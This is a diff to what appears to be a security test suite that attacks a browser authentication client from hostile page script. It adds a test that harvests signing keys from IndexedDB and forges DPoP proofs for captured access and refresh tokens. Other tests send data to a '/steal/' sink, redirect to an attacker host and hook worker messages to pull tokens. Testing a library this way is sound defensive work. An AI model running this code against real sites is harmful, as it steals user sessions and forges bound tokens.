@@ -21,7 +21,7 @@ const acts = {
         )
       )
         continue;
-      await within(1500, async () => {
+      await within(6000, async () => {
         const member = client[name];
         const value = typeof member === "function" ? await apply(member, client, []) : member;
         report(attack, value);
@@ -47,20 +47,20 @@ const acts = {
       `${given.page}/theft/blank.html?`,
       `${given.api.replace("localhost", "127.0.0.1")}/api/hello`,
     ];
-    for (const address of hostile) await within(1500, () => app().fetch(address));
-    await within(1500, () => app().fetch(new Request(hostile[0])));
+    for (const address of hostile) await within(6000, () => app().fetch(address));
+    await within(6000, () => app().fetch(new Request(hostile[0])));
   },
 
   async "T21 redirect to the attacker"(attack) {
     for (const status of [301, 302, 303, 307, 308]) {
       const to = encodeURIComponent(`${given.sink}/steal/${encodeURIComponent(attack)}`);
-      await within(1500, () => app().fetch(`${given.api}/api/redirect?status=${status}&to=${to}`));
+      await within(6000, () => app().fetch(`${given.api}/api/redirect?status=${status}&to=${to}`));
     }
   },
 
   async "T22 an allowed API that echoes"(attack) {
     for (const path of ["/plain", "/base64", "/url", "/backwards", "/header"]) {
-      await within(1500, async () => {
+      await within(6000, async () => {
         const response = await app().fetch(given.echo + path);
         report(attack, [...response.headers]);
         report(attack, await response.text());
@@ -68,15 +68,32 @@ const acts = {
     }
   },
 
+  async "T53 proofs signed with the page's key"(attack) {
+    // RFC 9449 §11.4: a key that cannot be exported can still sign, for whoever can reach it.
+    const pairs = await proofKeys();
+    if (!pairs.length) return;
+    const told = await within(6000, async () => (await app().fetch(`${given.echo}/plain`)).text());
+    const opened = (await openedRecords()).map((plain) => new TextDecoder().decode(plain));
+    const access = new RealSet([told, ...opened].flatMap((text) => text?.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g) ?? []));
+    const refresh = new RealSet(opened.flatMap((text) => /"refresh":"([^"]+)"/.exec(text)?.[1] ?? []));
+    for (const pair of pairs) {
+      for (const token of access)
+        report(attack, stringify({ token, proof: await proofOf(pair, "GET", given.resource, token) }));
+      for (const token of refresh) {
+        report(attack, stringify({ token, proof: await proofOf(pair, "POST", `${given.oidc.issuer}/token`) }));
+      }
+    }
+  },
+
   async "T13 import the client's files again"(attack) {
     for (const address of scripts()) {
-      await within(2500, async () => {
+      await within(10_000, async () => {
         const module = await import(address);
         for (const [name, value] of Object.entries(module)) {
           report(attack, value);
           if (typeof value !== "function" || /^(set|login|logout)/.test(name)) continue;
           for (const args of [[], [{}], [app().options]]) {
-            await within(800, async () => {
+            await within(8000, async () => {
               const result = await apply(value, undefined, args);
               report(attack, result);
               report(attack, result?.exports);
@@ -151,8 +168,8 @@ const rivals = {
           },
         };
     const rival = await second(changed);
-    await within(3000, () => rival.refresh());
-    await within(3000, () => rival.revoke());
+    await within(8000, () => rival.refresh());
+    await within(8000, () => rival.revoke());
   },
 
   async "T50 second client with a listening adapter"(attack) {
@@ -163,7 +180,7 @@ const rivals = {
       remove: () => {},
     };
     const rival = await second({ storage: { kind: "custom", adapter, dangerouslyPlaintext: true } });
-    await within(3000, () => rival.refresh());
+    await within(8000, () => rival.refresh());
   },
 
   async "T17 the worker, spoken to directly"(attack) {
@@ -189,10 +206,10 @@ const rivals = {
       () => {},
       new AbortController().signal,
     );
-    await within(4000, async () => report(attack, await core.init()));
-    await within(2000, async () => report(attack, await core.accessToken(0)));
-    await within(2000, async () => report(attack, await core.authorize(given.resource, "GET")));
-    await within(2000, async () => report(attack, await core.idTokenClaims()));
+    await within(10_000, async () => report(attack, await core.init()));
+    await within(6000, async () => report(attack, await core.accessToken(0)));
+    await within(6000, async () => report(attack, await core.authorize(given.resource, "GET")));
+    await within(6000, async () => report(attack, await core.idTokenClaims()));
   },
 
   async "T51 second client in a frame with pristine functions"(attack) {
@@ -208,7 +225,7 @@ const rivals = {
       await client.init();
       return client.getAccessToken();
     })`;
-    report(attack, await within(5000, () => frame.contentWindow.eval(work)));
+    report(attack, await within(15_000, () => frame.contentWindow.eval(work)));
   },
 };
 
@@ -266,8 +283,15 @@ const traps = {
       value(message, transfer) {
         if (message?.kind === "open") {
           message = { ...message, options: { ...message.options, exposeAccessToken: true } };
-          apply(realAdd, this, ["message", ({ data }) => report(attack, data)]);
-          const ask = () => apply(postMessage, this, [{ kind: "call", id: 987_654, name: "accessToken", argument: 0 }]);
+          apply(realAdd, this, [
+            "message",
+            ({ data }) => {
+              report(attack, data);
+              if (data.id === ASKED && (data.kind === "result" || data.error?.code === "token_isolated"))
+                report(attack, DONE);
+            },
+          ]);
+          const ask = () => apply(postMessage, this, [{ kind: "call", id: ASKED, name: "accessToken", argument: 0 }]);
           for (let at = 1; at <= 12; at++) realTimer(ask, at * 150);
         }
         return apply(postMessage, this, [message, transfer]);
@@ -292,8 +316,9 @@ const traps = {
       if (client?.getState?.().status !== "authenticated") return;
       clearInterval(timer);
       report(attack, { ...localStorage });
-      await within(1500, async () => report(attack, await client.getAccessToken()));
-      await within(1500, () => fetch(`${given.sink}/steal/${encodeURIComponent(attack)}`));
+      await within(6000, async () => report(attack, await client.getAccessToken()));
+      await within(6000, () => fetch(`${given.sink}/steal/${encodeURIComponent(attack)}`));
+      report(attack, DONE);
     }, 50);
   },
 
@@ -307,10 +332,17 @@ const traps = {
     window.stop();
     flush();
     track(databases().then((all) => report(attack, all)));
+    // What is sealed can be opened, and what is bound be proven, by whoever may use the keys.
+    track(reads["T4 IndexedDB key oracle"](attack));
+    track(proveCode(attack));
   },
 };
 
 const app = () => globalThis.app;
+
+/** A trap that says this has caught all that it will. */
+const DONE = "done: nothing more will come";
+const ASKED = 987_654;
 
 /** Otherwise a client that finds no session may leave the page for the provider, and the attacker's script with it. */
 const STORED = "refresh-token";
@@ -318,7 +350,7 @@ const STORED = "refresh-token";
 async function second(changes) {
   const { createAuthClient } = await import(`${given.page}${given.dist}/index.js`);
   const rival = createAuthClient({ ...app().options, restore: STORED, ...changes });
-  await within(5000, () => rival.init());
+  await within(15_000, () => rival.init());
   return rival;
 }
 
@@ -345,7 +377,7 @@ async function speak(attack, post, source) {
   )?.[0];
   const wasm = `${given.page}${given.wasm}/authsafe_bg.wasm`;
   post({ kind: "open", build, wasm, options: { ...options, exposeAccessToken: true }, href: location.href });
-  await within(4000, () => opened);
+  await within(10_000, () => opened);
   for (const [id, name] of ["init", "accessToken", "idTokenClaims", "constructor", "authorize", "export"].entries()) {
     post({ kind: "call", id: 1000 + id, name, argument: 0 });
     await new Promise((resolve) => realTimer(resolve, id ? 60 : 500));
@@ -364,10 +396,42 @@ function scripts() {
   return [...new RealSet([...own, ...beside])].filter((name) => !name.includes("worker"));
 }
 
+async function proveCode(attack) {
+  const code = new URLSearchParams(location.search).get("code");
+  for (const pair of await proofKeys()) {
+    report(attack, stringify({ token: code, proof: await proofOf(pair, "POST", `${given.oidc.issuer}/token`) }));
+  }
+}
+
+async function proofKeys() {
+  const pairs = [];
+  const collect = (value) => {
+    if (value?.privateKey instanceof RealKey && value.point) pairs.push(value);
+    else if (value && typeof value === "object") for (const one of Object.values(value)) collect(one);
+  };
+  for (const [, records] of await databases()) for (const [, value] of records) collect(value);
+  return pairs;
+}
+
+/** RFC 9449 §4.2. */
+async function proofOf({ privateKey, point }, htm, htu, token) {
+  const encode = (value) => url64(new TextEncoder().encode(stringify(value)));
+  const bytes = new Bytes(point);
+  const jwk = { kty: "EC", crv: "P-256", x: url64(bytes.slice(1, 33)), y: url64(bytes.slice(33)) };
+  const ath = token && url64(new Bytes(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(token))));
+  const claims = { jti: crypto.randomUUID(), htm, htu, iat: Math.floor(Date.now() / 1000), ...(ath && { ath }) };
+  const input = `${encode({ typ: "dpop+jwt", alg: "ES256", jwk })}.${encode(claims)}`;
+  const algorithm = { name: "ECDSA", hash: "SHA-256" };
+  const signature = await crypto.subtle.sign(algorithm, privateKey, new TextEncoder().encode(input));
+  return `${input}.${url64(new Bytes(signature))}`;
+}
+
+const url64 = (bytes) => base64(bytes).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
+
 async function authorizeUrl() {
   const verifier = "attackers-own-verifier-0123456789-0123456789-abcd";
   const digest = new Bytes(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
-  const challenge = base64(digest).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
+  const challenge = url64(digest);
   const { issuer, clientId, scope, redirectUri } = given.oidc;
   const url = new URL(`${issuer}/auth`);
   url.search = new URLSearchParams({
